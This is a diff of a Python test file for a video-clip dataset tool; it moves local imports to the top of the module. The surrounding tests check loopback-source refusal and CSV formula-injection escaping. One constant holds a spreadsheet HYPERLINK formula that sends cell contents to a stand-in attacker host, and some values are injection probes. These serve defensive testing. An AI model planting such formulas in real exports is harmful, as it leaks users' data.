@@ -7,8 +7,11 @@ metadata that would leak into published media.
 
 from __future__ import annotations
 
+import csv as csvmod
 import json
+import sqlite3
 import subprocess
+import sys
 from dataclasses import replace
 from pathlib import Path
 
@@ -121,8 +124,6 @@ def test_loopback_source_is_refused_without_the_flag(tmp_path: Path, server: Fau
 
 
 def test_cli_refuses_loopback_and_the_flag_allows_it(tmp_path: Path, server: FaultyServer) -> None:
-    import sys
-
     make_source(server.root / "v.mp4", 4.0)
     csv = sources_csv(tmp_path / "s.csv", [("c", server.url("v.mp4"), 0.5, 2.5, "crash")])
     base = [sys.executable, "-m", "vaar.cli", "build", str(csv), "--workers", "1"]
@@ -294,9 +295,6 @@ def test_duplicate_clip_id_keeps_the_first_ok_row_and_both_rows_are_in_the_manif
 def test_another_list_into_the_same_out_keeps_rows_and_prune_drops_them(
     tmp_path: Path, server: FaultyServer
 ) -> None:
-    import sqlite3
-    import sys
-
     make_source(server.root / "a.mp4", 4.0)
     make_source(server.root / "b.mp4", 4.0, variant=5)
     list_a = sources_csv(tmp_path / "a.csv", [("a1", server.url("a.mp4"), 0.5, 2.5, "crash")])
@@ -331,8 +329,6 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"click me")'
 def test_formula_source_id_is_refused_and_notes_never_start_a_formula_in_csv(
     tmp_path: Path, server: FaultyServer
 ) -> None:
-    import csv as csvmod
-
     rows = []
     for label in ("crash", "explosion"):
         for k in range(3):
@@ -364,8 +360,6 @@ def test_formula_source_id_is_refused_and_notes_never_start_a_formula_in_csv(
 def test_csv_helper_escapes_free_text_but_not_numbers(tmp_path: Path) -> None:
     from vaar.csvsafe import csv_bytes
     from vaar.curation.split import SplitItem, render_split_files
-
-    import csv as csvmod
 
     data = csv_bytes(["a", "b", "c"], [[FORMULA, -0.5, "+1"], ["@x", "plain", "\tcmd"]]).decode()
     assert list(csvmod.reader(data.splitlines())) == [
